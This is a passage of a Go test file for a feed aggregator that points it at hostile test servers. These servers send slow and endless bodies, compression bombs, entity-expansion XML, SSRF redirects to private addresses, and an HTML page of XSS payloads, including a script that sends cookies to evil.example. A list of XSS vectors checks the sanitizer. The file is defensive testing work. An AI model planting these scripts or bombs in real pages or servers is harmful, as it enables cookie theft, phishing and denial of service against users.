package main

// The tests in this file point Tributary at hostile sources: servers that
// stall, flood, bomb, loop, lie or refuse, documents built to hurt a parser
// or a reader, and links that try to reach private addresses. Each bad
// source must fail (or be repaired) alone, with a reason an operator can act
// on, while a good source in the same configuration is fetched and
// published; memory stays bounded and nothing hangs.

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"context"
	"fmt"
	"io"
	stdlog "log"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/mmcdole/gofeed"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/tributary/tributary/internal/fetch"
	"github.com/tributary/tributary/internal/pipeline"
	"github.com/tributary/tributary/internal/store/sqlite"
	"github.com/tributary/tributary/sources"
)

const (
	// hostileTimeout is fetch.timeout (and connect_timeout, which also
	// bounds the TLS handshake) in the test configurations: short, so
	// that the servers that never finish cost seconds, not minutes, yet
	// long enough for a 15 MiB body to be inflated under the race detector
	// on a busy machine.
	hostileTimeout = "5s"
	// heapBound and sysBound are generous ceilings for the whole test
	// process. Bodies are capped at 15 MiB decoded, so the few in flight
	// fit many times over; one bomb or endless body read whole would not.
	heapBound = 512 << 20
	sysBound  = 1 << 30
	// maxItems is fetch.max_items_per_source in the test configurations.
	maxItems = 100
	// retryAfterSeconds is what the 429 source asks for.
	retryAfterSeconds = 3600
)

// hostile is a set of misbehaving servers. srv hosts every hostile path;
// canary is another private origin (another loopback port) that sources
// must not reach unless private networks are allowed; tls is a server
// whose certificate nobody trusts.
type hostile struct {
	srv, canary, tls *httptest.Server

	// manyItems and hugeTitles build their documents once; the cases call
	// them before fetching so that building does not eat the fetch timeout
	// (it is slow under the race detector).
	manyItems, hugeTitles func() []byte

	mu   sync.Mutex
	hits map[string]int // "hostile /path" or "canary /path" -> requests seen
}

func (h *hostile) hit(server string, r *http.Request) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.hits[server+" "+r.URL.Path]++
}

// hitCount returns how many requests server ("hostile" or "canary") saw for
// path, or for every path when path is "".
func (h *hostile) hitCount(server, path string) int {
	h.mu.Lock()
	defer h.mu.Unlock()
	n := 0
	for k, v := range h.hits {
		if k == server+" "+path || path == "" && strings.HasPrefix(k, server+" ") {
			n += v
		}
	}
	return n
}

func (h *hostile) url(path string) string { return h.srv.URL + path }

// quietServer returns an unstarted server whose own error log (TLS
// handshake failures, hijacked connections) is discarded.
func quietServer(handler http.Handler) *httptest.Server {
	srv := httptest.NewUnstartedServer(handler)
	srv.Config.ErrorLog = newDiscardLogger()
	return srv
}

func newDiscardLogger() *stdlog.Logger { return stdlog.New(io.Discard, "", 0) }

func newHostile(t *testing.T) *hostile {
	t.Helper()
	h := &hostile{hits: map[string]int{}, manyItems: sync.OnceValue(manyItemsDoc), hugeTitles: sync.OnceValue(hugeTitlesDoc)}

	canary := http.NewServeMux()
	canary.HandleFunc("/feed", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, rssDoc("Canary", `<item><title>Canary story</title><link>http://example.com/canary/1</link><description>Reached the canary.</description></item>`))
	})
	canary.HandleFunc("/article", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, canaryArticle)
	})
	h.canary = quietServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.hit("canary", r)
		canary.ServeHTTP(w, r)
	}))
	h.canary.Start()
	t.Cleanup(h.canary.Close)

	h.tls = quietServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, rssDoc("TLS", `<item><title>Over TLS</title><link>http://example.com/tls/1</link></item>`))
	}))
	h.tls.StartTLS()
	t.Cleanup(h.tls.Close)

	mux := http.NewServeMux()
	mux.HandleFunc("/slow-body", slowBody)
	mux.HandleFunc("/slow-headers", func(w http.ResponseWriter, r *http.Request) {
		// Never answer: wait for the client to give up.
		select {
		case <-r.Context().Done():
		case <-time.After(time.Minute):
		}
	})
	mux.HandleFunc("/endless", endlessBody)
	mux.HandleFunc("/gzip-bomb", func(w http.ResponseWriter, r *http.Request) {
		bomb(w, "gzip", func(w io.Writer) flushWriter {
			zw, _ := gzip.NewWriterLevel(w, gzip.BestCompression)
			return zw
		})
	})
	mux.HandleFunc("/deflate-bomb", func(w http.ResponseWriter, r *http.Request) {
		bomb(w, "deflate", func(w io.Writer) flushWriter {
			zw, _ := zlib.NewWriterLevel(w, zlib.BestCompression)
			return zw
		})
	})
	mux.HandleFunc("/raw-deflate-bomb", func(w http.ResponseWriter, r *http.Request) {
		bomb(w, "deflate", func(w io.Writer) flushWriter {
			zw, _ := flate.NewWriter(w, flate.BestCompression)
			return zw
		})
	})
	mux.HandleFunc("/loop", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/loop", http.StatusFound)
	})
	mux.HandleFunc("/hops/{n}", func(w http.ResponseWriter, r *http.Request) {
		n, _ := strconv.Atoi(r.PathValue("n"))
		if n > 0 {
			http.Redirect(w, r, fmt.Sprintf("/hops/%d", n-1), http.StatusMovedPermanently)
			return
		}
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, rssDoc("Hops", `<item><title>After the hops</title><link>http://example.com/hops/1</link></item>`))
	})
	mux.HandleFunc("/status/{code}", func(w http.ResponseWriter, r *http.Request) {
		code, _ := strconv.Atoi(r.PathValue("code"))
		if ra := r.URL.Query().Get("retry-after"); ra != "" {
			w.Header().Set("Retry-After", ra)
		}
		http.Error(w, http.StatusText(code), code)
	})
	mux.HandleFunc("/retry-date", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Retry-After", time.Now().Add(2*time.Hour).UTC().Format(http.TimeFormat))
		http.Error(w, "down for maintenance", http.StatusServiceUnavailable)
	})
	mux.HandleFunc("/reset", resetMidBody)
	mux.HandleFunc("/short-body", shortBody)
	mux.HandleFunc("/discover-private", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!DOCTYPE html><html><head><link rel="alternate" type="application/rss+xml" href="%s/feed"></head><body>Our feed lives elsewhere.</body></html>`, h.canary.URL)
	})
	mux.HandleFunc("/discover-self", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, `<!DOCTYPE html><html><head><link rel="alternate" type="application/rss+xml" href="/discover-self"></head><body>I am my own feed.</body></html>`)
	})
	mux.HandleFunc("/fixture/{name}", func(w http.ResponseWriter, r *http.Request) {
		name := filepath.Base(r.PathValue("name"))
		b, err := os.ReadFile(filepath.Join("testdata", "hostile", name))
		if err != nil {
			http.NotFound(w, r)
			return
		}
		b = bytes.ReplaceAll(b, []byte("{{CANARY}}"), []byte(h.canary.URL))
		switch {
		case strings.HasSuffix(name, ".html"):
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
		case strings.HasSuffix(name, ".atom"):
			w.Header().Set("Content-Type", "application/atom+xml")
		case strings.HasSuffix(name, ".json"):
			w.Header().Set("Content-Type", "application/feed+json")
		case name == "wrong-charset.xml":
			// The server agrees with the document's wrong declaration.
			w.Header().Set("Content-Type", "application/rss+xml; charset=ISO-8859-1")
		default:
			w.Header().Set("Content-Type", "application/rss+xml")
		}
		w.Write(b)
	})
	mux.HandleFunc("/binary", func(w http.ResponseWriter, r *http.Request) {
		// A server that says "feed" and sends an image-like blob.
		w.Header().Set("Content-Type", "application/rss+xml")
		rng := rand.New(rand.NewChaCha8([32]byte{1, 2, 3}))
		b := make([]byte, 256<<10)
		for i := range b {
			b[i] = byte(rng.Uint32())
		}
		copy(b, "\x89PNG\r\n\x1a\n")
		w.Write(b)
	})
	mux.HandleFunc("/many-items", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Write(h.manyItems())
	})
	mux.HandleFunc("/huge-titles", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Write(h.hugeTitles())
	})
	mux.HandleFunc("/quadratic", func(w http.ResponseWriter, r *http.Request) {
		// Quadratic blowup: one 64 KiB entity referenced 20,000 times
		// would expand to 1.3 GB.
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Write(entityDoc("Quadratic blowup", "http://example.com/quadratic/1", 64<<10, 20000))
	})
	mux.HandleFunc("/entity-amplification", func(w http.ResponseWriter, r *http.Request) {
		// 450 KB: a 256-byte entity, short enough to be expanded,
		// referenced 150,000 times would make 38 MB of text.
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Write(entityDoc("Entity amplification", "http://example.com/entities/1", 256, 150000))
	})
	mux.HandleFunc("/to-canary", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, h.canary.URL+"/feed", http.StatusFound)
	})
	mux.HandleFunc("/fulltext-feed", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, rssDoc("Full text", `<item><title>Read more elsewhere</title><link>`+h.canary.URL+`/article</link><guid>urn:fulltext:1</guid><description>Teaser only.</description></item>`))
	})
	mux.HandleFunc("/xss-fulltext-feed", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, rssDoc("Hostile pages", `<item><title>Hostile page</title><link>`+h.srv.URL+`/xss-article</link><guid>urn:xss-page:1</guid><description>Teaser.</description></item>`))
	})
	mux.HandleFunc("/xss-article", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, hostileArticle)
	})
	h.srv = quietServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.hit("hostile", r)
		mux.ServeHTTP(w, r)
	}))
	h.srv.Start()
	t.Cleanup(h.srv.Close)
	return h
}

// entityDoc is an RSS document of one item titled title whose description
// references refs times an entity of size "a"s declared in its DOCTYPE.
func entityDoc(title, link string, size, refs int) []byte {
	var b bytes.Buffer
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n")
	b.WriteString(`<!DOCTYPE rss [<!ENTITY a "` + strings.Repeat("a", size) + `">]>` + "\n")
	b.WriteString(`<rss version="2.0"><channel><title>` + title + `</title><link>http://example.com/</link>`)
	b.WriteString(`<item><title>` + title + `</title><link>` + link + `</link><description>`)
	b.WriteString(strings.Repeat("&a;", refs))
	b.WriteString(`</description></item></channel></rss>`)
	return b.Bytes()
}

// manyItemsDoc is an RSS document of 50,000 items, about 7 MB.
func manyItemsDoc() []byte {
	b := make([]byte, 0, 8<<20)
	for i := range 50000 {
		n := strconv.Itoa(i)
		b = append(b, "<item><title>Item "+n+"</title><link>http://example.com/many/"+n+"</link><guid>urn:many:"+n+
			"</guid><description>Item number "+n+".</description></item>\n"...)
	}
	return []byte(rssDoc("Fifty thousand items", string(b)))
}

// hugeTitlesDoc is an RSS document of three items with 1 MiB titles.
func hugeTitlesDoc() []byte {
	var b strings.Builder
	for i := range 3 {
		fmt.Fprintf(&b, "<item><title>Huge title %d %s</title><link>http://example.com/huge/%d</link><description>Short body.</description></item>\n",
			i, strings.Repeat("lorem ipsum ", (1<<20)/12), i)
	}
	return []byte(rssDoc("Huge titles", b.String()))
}

// rssDoc wraps items in an RSS 2.0 document.
func rssDoc(title, items string) string {
	return `<?xml version="1.0" encoding="UTF-8"?>` + "\n" +
		`<rss version="2.0"><channel><title>` + title + `</title><link>http://example.com/</link><description>` + title + `</description>` + "\n" +
		items + "\n</channel></rss>\n"
}

const canaryArticle = `<!DOCTYPE html><html><head><title>Canary article</title></head><body>
<article><h1>Canary article</h1>
<p>This page lives on a private address that only an operator who allowed private networks may fetch. Its text is long enough to be extracted as an article body by the readability pass.</p>
<p>A second paragraph adds more words, so that the extractor sees a real article rather than a stub: sentences, commas, and enough characters to score well.</p>
<p>A third paragraph closes the story with yet more prose about nothing in particular, written only to be found.</p>
</article></body></html>`

// hostileArticle is an article page full of markup that must not be
// republished by full-text extraction.
const hostileArticle = `<!DOCTYPE html><html><head><title>Hostile page</title>
<script>alert('head')</script><style>p{background:url(javascript:alert(0))}</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head>
<body onload="alert(2)"><article>
<h1>Hostile page</h1>
<p>The hostile article body starts here, with enough prose to be taken for an article by the extractor, sentence after sentence.</p>
<script>document.write('<img src=//evil.example/'+document.cookie+'>')</script>
<p onmouseover="alert(3)">A second paragraph of real text, with <a href="javascript:alert(4)">a script link</a> and <a href="https://example.com/fine">a fine link</a> in the middle of it.</p>
<iframe src="https://evil.example/ad" width="300" height="250"></iframe>
<img src="https://example.com/photo.jpg" onerror="alert(5)" alt="A real photo" width="640" height="480">
<img src="https://tracker.example/page.gif" width="1" height="1">
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<form action="https://evil.example/login"><input type="password" name="p"><button>Log in</button></form>
<p style="width: expression(alert(6))">A third paragraph closes the article body with more words for the extractor to keep.</p>
<svg><script>alert(7)</script></svg>
</article></body></html>`

// slowBody sends a feed one byte a second.
func slowBody(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/rss+xml")
	w.WriteHeader(http.StatusOK)
	rc := http.NewResponseController(w)
	doc := rssDoc("Slow", `<item><title>Slow</title></item>`)
	for i := 0; i < len(doc) && i < 60; i++ {
		if _, err := w.Write([]byte{doc[i]}); err != nil {
			return
		}
		if rc.Flush() != nil {
			return
		}
		select {
		case <-r.Context().Done():
			return
		case <-time.After(time.Second):
		}
	}
}

// endlessBody streams items until the client hangs up (at most 4 GiB).
func endlessBody(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/rss+xml")
	io.WriteString(w, `<?xml version="1.0"?><rss version="2.0"><channel><title>Endless</title>`)
	chunk := []byte(strings.Repeat("<item><title>Again</title><description>and again</description></item>\n", 512))
	for written := 0; written < 4<<30; written += len(chunk) {
		if _, err := w.Write(chunk); err != nil {
			return
		}
	}
}

// flushWriter is a compressor that can flush a self-contained block.
type flushWriter interface {
	io.Writer
	Flush() error
}

// bomb streams a compressed body that inflates to 4 GiB of whitespace,
// about 1000:1 on the wire, until the client hangs up. Only the head and one
// 64 KiB chunk are compressed, per request: once the compressor's window is
// all spaces, 64 KiB more spaces compress to self-contained blocks that
// decode to the same bytes wherever they are repeated. No trailer is sent:
// no client should ever get that far.
func bomb(w http.ResponseWriter, encoding string, newWriter func(io.Writer) flushWriter) {
	var buf bytes.Buffer
	zw := newWriter(&buf)
	io.WriteString(zw, `<?xml version="1.0"?><rss version="2.0"><channel><title>Bomb`)
	spaces := bytes.Repeat([]byte{' '}, 64<<10)
	zw.Write(spaces)
	zw.Flush()
	head := bytes.Clone(buf.Bytes())
	buf.Reset()
	zw.Write(spaces)
	zw.Flush()
	chunk := buf.Bytes()

	w.Header().Set("Content-Type", "application/rss+xml")
	w.Header().Set("Content-Encoding", encoding)
	w.WriteHeader(http.StatusOK)
	if _, err := w.Write(head); err != nil {
		return
	}
	for range 4 << 30 / len(spaces) {
		if _, err := w.Write(chunk); err != nil {
			return
		}
	}
}

// resetMidBody promises 100,000 bytes, sends a few, and resets the
// connection.
func resetMidBody(w http.ResponseWriter, r *http.Request) {
	conn, buf, err := http.NewResponseController(w).Hijack()
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	buf.WriteString("HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: 100000\r\n\r\n")
	buf.WriteString(`<?xml version="1.0"?><rss version="2.0"><channel><title>Reset</title><item><title>Cut sh`)
	buf.Flush()
	if tc, ok := conn.(*net.TCPConn); ok {
		tc.SetLinger(0) // close with RST, not FIN
	}
	conn.Close()
}

// shortBody promises 100,000 bytes, sends a small feed and closes the
// connection cleanly.
func shortBody(w http.ResponseWriter, r *http.Request) {
	conn, buf, err := http.NewResponseController(w).Hijack()
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	buf.WriteString("HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: 100000\r\n\r\n")
	buf.WriteString(rssDoc("Short", `<item><title>Short</title><link>http://example.com/short/1</link></item>`))
	buf.Flush()
	conn.Close()
}

// goodServer serves a healthy Atom feed of two stories titled
// "Good LABEL story one" and "Good LABEL story two".
func goodServer(t *testing.T, label string) string {
	t.Helper()
	doc := fmt.Sprintf(`<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Good %[1]s</title><id>urn:good:%[1]s</id><updated>2026-01-02T00:00:00Z</updated>
<entry><title>Good %[1]s story one</title><id>urn:good:%[1]s:1</id><link href="/%[1]s/1"/><updated>2026-01-02T00:00:00Z</updated><author><name>Ann</name></author><summary>First good story.</summary></entry>
<entry><title>Good %[1]s story two</title><id>urn:good:%[1]s:2</id><link href="/%[1]s/2"/><updated>2026-01-01T00:00:00Z</updated><author><name>Bob</name></author><summary>Second good story.</summary></entry>
</feed>`, label)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/atom+xml")
		io.WriteString(w, doc)
	}))
	t.Cleanup(srv.Close)
	return srv.URL + "/feed.atom"
}

func goodTitles(label string) []string {
	return []string{"Good " + label + " story one", "Good " + label + " story two"}
}

// hostileSource is one source of a test configuration.
type hostileSource struct {
	name, url string
	fulltext  bool
}

// writeHostileConfig writes a configuration with a short fetch timeout, the
// given sources and one feed of everything, and returns its path and its
// directory (which holds the SQLite store).
func writeHostileConfig(t *testing.T, listen, fetchExtra string, srcs []hostileSource) (conf, dir string) {
	t.Helper()
	dir = t.TempDir()
	var b strings.Builder
	fmt.Fprintf(&b, `listen: %s
base_url: http://127.0.0.1:8080
title: Hostile
storage:
  dsn: test.db
schedule: "@every 1h"
fetch:
  timeout: %s
  connect_timeout: %s
  max_items_per_source: %d
%s
sources:
`, listen, hostileTimeout, hostileTimeout, maxItems, fetchExtra)
	for _, s := range srcs {
		fmt.Fprintf(&b, "  - name: %s\n    url: %q\n", s.name, s.url)
		if s.fulltext {
			b.WriteString("    fulltext: true\n")
		}
	}
	b.WriteString("feeds:\n  - name: all\n    title: Everything\n    limit: 10000\n")
	conf = filepath.Join(dir, "config.yaml")
	writeFile(t, conf, b.String())
	return conf, dir
}

// hostileCase is one bad source.
type hostileCase struct {
	name string
	url  func(h *hostile) string
	// failed says the source must fail; otherwise it must be fetched (its
	// defects repaired or dropped) without failing.
	failed bool
	// want is what the source's `tributary fetch` line must contain after
	// "NAME: ".
	want string
	// allowPrivate sets fetch.allow_private_networks: true; fulltext sets
	// the source's fulltext. Cases that allow private networks are positive
	// controls and stay out of the daemon test.
	allowPrivate, fulltext bool
	// check makes further assertions about the outcome.
	check func(t *testing.T, h *hostile, r *hostileResult)
}

// hostileResult is what one fetch-and-build of a case produced.
type hostileResult struct {
	dir            string
	start          time.Time
	line           string // the bad source's line of `tributary fetch`
	stdout, stderr string
	outputs        map[string][]byte       // file name ("all.atom") -> bytes
	feeds          map[string]*gofeed.Feed // file name -> parsed feed
}

// badItems returns, per output file, the items not from the good source.
func (r *hostileResult) badItems() map[string][]*gofeed.Item {
	out := map[string][]*gofeed.Item{}
	for name, f := range r.feeds {
		out[name] = []*gofeed.Item{}
		for _, it := range f.Items {
			if !strings.HasPrefix(it.Title, "Good ") {
				out[name] = append(out[name], it)
			}
		}
	}
	return out
}

func fixture(name string) func(h *hostile) string {
	return func(h *hostile) string { return h.url("/fixture/" + name) }
}

func path(p string) func(h *hostile) string {
	return func(h *hostile) string { return h.url(p) }
}

// hostileCases lists every bad source. The wants are the reasons an
// operator reads; they are quoted in the README's "Limits and safety".
func hostileCases() []hostileCase {
	return []hostileCase{
		// Slow, endless and compressed-bomb bodies.
		{name: "slow-body", url: path("/slow-body"), failed: true, want: "request exceeded timeout of " + hostileTimeout},
		{name: "slow-headers", url: path("/slow-headers"), failed: true, want: "request exceeded timeout of " + hostileTimeout},
		{name: "endless-body", url: path("/endless"), failed: true, want: "more than 15728640 bytes: fetch: response body too large"},
		{name: "gzip-bomb", url: path("/gzip-bomb"), failed: true, want: "more than 15728640 bytes: fetch: response body too large"},
		{name: "deflate-bomb", url: path("/deflate-bomb"), failed: true, want: "more than 15728640 bytes: fetch: response body too large"},
		{name: "raw-deflate-bomb", url: path("/raw-deflate-bomb"), failed: true, want: "more than 15728640 bytes: fetch: response body too large"},
		// Redirects.
		{name: "redirect-loop", url: path("/loop"), failed: true, want: "stopped after 10 redirects: fetch: too many redirects"},
		{name: "eleven-redirects", url: path("/hops/11"), failed: true, want: "stopped after 10 redirects: fetch: too many redirects"},
		{name: "ten-redirects", url: path("/hops/10"), want: "new (1 new, 0 updated, 0 unchanged)"},
		// Status codes.
		{name: "status-403", url: path("/status/403"), failed: true, want: "http 403 Forbidden from "},
		{name: "status-404", url: path("/status/404"), failed: true, want: "http 404 Not Found from "},
		{name: "status-500", url: path("/status/500"), failed: true, want: "http 500 Internal Server Error from "},
		{name: "status-502", url: path("/status/502"), failed: true, want: "http 502 Bad Gateway from "},
		{
			name: "status-429-retry-after", url: path(fmt.Sprintf("/status/429?retry-after=%d", retryAfterSeconds)),
			failed: true, want: "http 429 Too Many Requests from ",
			check: checkRetryAfter("/status/429", retryAfterSeconds*time.Second),
		},
		{
			name: "status-503-retry-date", url: path("/retry-date"),
			failed: true, want: "http 503 Service Unavailable from ",
			check: checkRetryAfter("/retry-date", 2*time.Hour),
		},
		// Transport failures.
		{name: "tls-untrusted", url: func(h *hostile) string { return h.tls.URL + "/feed" }, failed: true,
			want: "tls: failed to verify certificate: x509: certificate signed by unknown authority"},
		{name: "dns-invalid", url: func(*hostile) string { return "http://feed.invalid/feed" }, failed: true,
			want: "lookup feed.invalid"},
		{name: "reset-mid-body", url: path("/reset"), failed: true, want: "read: connection reset by peer"},
		{name: "short-body", url: path("/short-body"), failed: true, want: "unexpected EOF"},
		// Hostile and broken documents.
		{name: "billion-laughs", url: fixture("billion-laughs.xml"), want: "new (2 new, 0 updated, 0 unchanged)",
			check: checkNoExpansion("lollol")},
		{name: "quadratic-blowup", url: path("/quadratic"), want: "new (1 new, 0 updated, 0 unchanged)",
			check: checkNoExpansion("aaaaaaaaaaaaaaaa")},
		{name: "entity-amplification", url: path("/entity-amplification"), want: "new (1 new, 0 updated, 0 unchanged)",
			check: checkStoredSize(2 << 20)},
		{name: "external-entities", url: fixture("xxe.xml"), want: "new (2 new, 0 updated, 0 unchanged)",
			check: checkNoExternalEntities},
		{name: "truncated", url: fixture("truncated.xml"), want: "new (2 new, 0 updated, 0 unchanged)",
			check: checkTitles("Truncated one", "Truncated two")},
		{name: "binary", url: path("/binary"), failed: true, want: "document is not an RSS, Atom or JSON feed"},
		{name: "html-no-feed", url: fixture("no-feed.html"), failed: true,
			want: "no feed found in HTML page"},
		{name: "invalid-utf8", url: fixture("invalid-utf8.xml"), want: "new (2 new, 0 updated, 0 unchanged)",
			// No valid multi-byte UTF-8 in the whole document: the stray
			// byte is read as windows-1252 rather than replaced.
			check: checkTitles("Café latin-1 byte", "Controls inside")},
		{name: "wrong-charset", url: fixture("wrong-charset.xml"), want: "new (2 new, 0 updated, 0 unchanged)",
			check: checkTitles("Café — naïve ☕ straße", "日本語のタイトル")},
		{name: "impossible-dates", url: fixture("impossible-dates.xml"), want: "new (8 new, 0 updated, 0 unchanged)",
			check: checkFirstSeenDates},
		{name: "bare-items", url: fixture("bare-items.xml"), want: "new (3 new, 0 updated, 0 unchanged)",
			check: checkBareItems},
		{name: "fifty-thousand-items", url: func(h *hostile) string { h.manyItems(); return h.url("/many-items") }, want: fmt.Sprintf("new (%d new, 0 updated, 0 unchanged)", maxItems),
			check: checkItemCount(maxItems)},
		{name: "megabyte-titles", url: func(h *hostile) string { h.hugeTitles(); return h.url("/huge-titles") }, want: "new (3 new, 0 updated, 0 unchanged)",
			check: checkTitleLength},
		{name: "scripts-and-trackers", url: fixture("xss.xml"), want: "new (2 new, 0 updated, 0 unchanged)",
			check: checkSafeContent("Scripted title", "Safe paragraph one.", "Safe paragraph two", "Full text survives.",
				`<a href="https://example.com/full">a full link</a>`)},
		{name: "scripts-atom", url: fixture("xss.atom"), want: "new (1 new, 0 updated, 0 unchanged)",
			check: checkSafeContent("Atom title", "Atom xhtml content.", "Clicked.", "Styled.")},
		{name: "scripts-json", url: fixture("xss.json"), want: "new (1 new, 0 updated, 0 unchanged)",
			check: checkSafeContent("JSON title", "JSON html content.", "Expr.")},
		{name: "scripts-fulltext", url: path("/xss-fulltext-feed"), fulltext: true,
			want: "new (1 new, 0 updated, 0 unchanged), 1 pages extracted",
			check: checkSafeContent("Hostile page", "The hostile article body starts here", `<a href="https://example.com/fine">a fine link</a>`,
				"A third paragraph closes the article body")},
		// Server-side request forgery.
		{name: "redirect-to-private", url: path("/to-canary"), failed: true, want: "fetch: blocked non-public address",
			check: checkCanary("/feed", 0)},
		{name: "redirect-to-private-allowed", url: path("/to-canary"), allowPrivate: true, want: "new (1 new, 0 updated, 0 unchanged)",
			check: checkCanary("/feed", 1)},
		{name: "discovery-to-private", url: path("/discover-private"), failed: true,
			want: "fetch: blocked non-public address", check: checkCanary("/feed", 0)},
		{name: "discovery-loop", url: path("/discover-self"), failed: true,
			want: "parse feed: document is not an RSS, Atom or JSON feed", check: checkLog("fetch feed", "advertised by", "status=failed")},
		{name: "fulltext-private-link", url: path("/fulltext-feed"), fulltext: true,
			want:  "new (1 new, 0 updated, 0 unchanged), 0 pages extracted, 1 failed",
			check: all(checkCanary("/article", 0), checkLog("article extraction failed", "fetch: blocked non-public address"))},
		{name: "fulltext-private-link-allowed", url: path("/fulltext-feed"), fulltext: true, allowPrivate: true,
			want: "new (1 new, 0 updated, 0 unchanged), 1 pages extracted", check: checkCanary("/article", 1)},
	}
}

// TestUnsafeHTMLCatchesEachVector proves the checker used on published
// content is not blind: each hostile snippet alone is reported, and the
// markup a sanitized article legitimately keeps is not.
func TestUnsafeHTMLCatchesEachVector(t *testing.T) {
	for _, bad := range []string{
		`<script>alert(1)</script>`,
		`<img src="https://example.com/a.jpg" onerror="alert(1)">`,
		`<a href="javascript:alert(1)">x</a>`,
		`<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>`,
		`<a href="vbscript:msgbox(1)">x</a>`,
		`<a href="data:text/html;base64,AAAA">x</a>`,
		`<img srcset="https://example.com/a.jpg 1x, javascript:alert(1) 2x">`,
		`<video poster="javascript:alert(1)"></video>`,
		`<iframe src="https://evil.example/"></iframe>`,
		`<iframe srcdoc="x"></iframe>`,
		`<object data="x.swf"></object>`,
		`<embed src="x.swf">`,
		`<form action="https://evil.example/"><input name="p"></form>`,
		`<button formaction="javascript:alert(1)">x</button>`,
		`<div style="width: expression(alert(1))">x</div>`,
		`<p style="background:url(javascript:alert(1))">x</p>`,
		`<style>p{}</style>`,
		`<link rel="stylesheet" href="x.css">`,
		`<meta http-equiv="refresh" content="0">`,
		`<base href="https://evil.example/">`,
		`<svg><circle/></svg>`,
		`<math><mi>x</mi></math>`,
		`<img src="https://example.com/p.gif" width="1" height="1">`,
		`<img src="https://example.com/p.gif" height="0">`,
		`<img src="https://tracker.example/p.gif">`,
	} {
		if len(unsafeHTML(bad)) == 0 {
			t.Errorf("checker misses %s", bad)
		}
	}
	good := `<p>Text <a href="https://example.com/">link</a> <a href="mailto:a@example.com">mail</a></p>` +
		`<figure><img src="https://example.com/a.jpg" srcset="https://example.com/a.jpg 1x, https://example.com/b.jpg 2x" width="640" height="480" alt="a"><figcaption>c</figcaption></figure>` +
		`<video src="https://example.com/v.mp4" poster="https://example.com/p.jpg" controls></video><blockquote cite="https://example.com/q">q</blockquote>`
	if p := unsafeHTML(good); len(p) != 0 {
		t.Errorf("checker flags safe markup: %q", p)
	}
	for _, u := range []string{"javascript:alert(1)", " JAVASCRIPT:x", "vbscript:x", "data:image/png;base64,AAAA"} {
		if !dangerousURL(u) {
			t.Errorf("dangerousURL(%q) = false", u)
		}
	}
	if !yearOneRe.MatchString("<published>0001-01-01T00:00:00Z</published>") || !yearOneRe.MatchString("<pubDate>Mon, 01 Jan 0001 00:00:00 +0000</pubDate>") {
		t.Error("the year-1 pattern misses year-1 dates")
	}
}

func TestHostileSourcesAreIsolated(t *testing.T) {
	for _, tc := range hostileCases() {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			h := newHostile(t)
			extra := ""
			if tc.allowPrivate {
				extra = "  allow_private_networks: true\n"
			}
			conf, dir := writeHostileConfig(t, "127.0.0.1:0", extra, []hostileSource{
				{name: "good", url: goodServer(t, "good")},
				{name: "bad", url: tc.url(h), fulltext: tc.fulltext},
			})
			r := &hostileResult{dir: dir, start: time.Now()}
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()

			code, out, errOut := runCmd(t, ctx, "--config", conf, "fetch")
			r.stdout, r.stderr = out, errOut
			if ctx.Err() != nil {
				t.Fatalf("fetch did not finish within its deadline:\n%s", out)
			}
			wantCode := exitOK
			if tc.failed {
				wantCode = exitFailed
			}
			if code != wantCode {
				t.Errorf("fetch exit %d, want %d\n%s\n%s", code, wantCode, out, errOut)
			}
			r.line = sourceLine(out, "bad")
			t.Logf("fetch: %s", r.line)
			if !strings.Contains(r.line, tc.want) {
				t.Errorf("bad source line %q lacks %q", r.line, tc.want)
			}
			if tc.failed && !strings.HasPrefix(r.line, "bad: failed: ") {
